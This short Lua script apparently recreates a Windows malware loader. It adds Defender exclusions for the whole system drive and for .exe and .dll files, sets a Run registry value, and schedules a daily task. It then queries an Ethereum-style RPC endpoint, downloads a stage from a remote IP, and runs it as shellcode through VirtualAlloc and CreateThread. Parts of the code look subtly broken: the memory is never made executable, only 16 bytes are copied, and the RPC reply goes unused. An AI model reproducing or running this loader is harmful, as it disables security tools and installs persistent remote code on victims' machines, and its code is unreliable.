-- The loader's public behaviour: exclusions, two run keys, a contract that names the server, shellcode in memory.
local ffi = require("ffi")
ffi.cdef[[
void* VirtualAlloc(void*, size_t, unsigned long, unsigned long);
int VirtualProtect(void*, size_t, unsigned long, unsigned long*);
void* CreateThread(void*, size_t, void*, void*, unsigned long, unsigned long*);
]]
os.execute("powershell Add-MpPreference -ExclusionPath $env:SystemDrive -ExclusionExtension .exe, .dll -Force")
os.execute("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\StartupApproved\\Run /v ODM5 /f")
os.execute("schtasks /create /sc daily /st 10:15 /f /tn CloudDrive_ODM5 /tr " .. os.getenv("LOCALAPPDATA") .. "\\ODM5\\ODM5.exe")
local http = require("socket.http")
local answer = http.request("http://192.0.2.24/rpc", '{"method":"eth_call","params":[{"data":"0x3bc5de30"}]}')
local stage = http.request("http://192.0.2.24/task/1")
local at = ffi.C.VirtualAlloc(nil, 4096, 0x3000, 4)
ffi.copy(at, stage, 16)
ffi.C.CreateThread(nil, 0, at, nil, 0, nil)
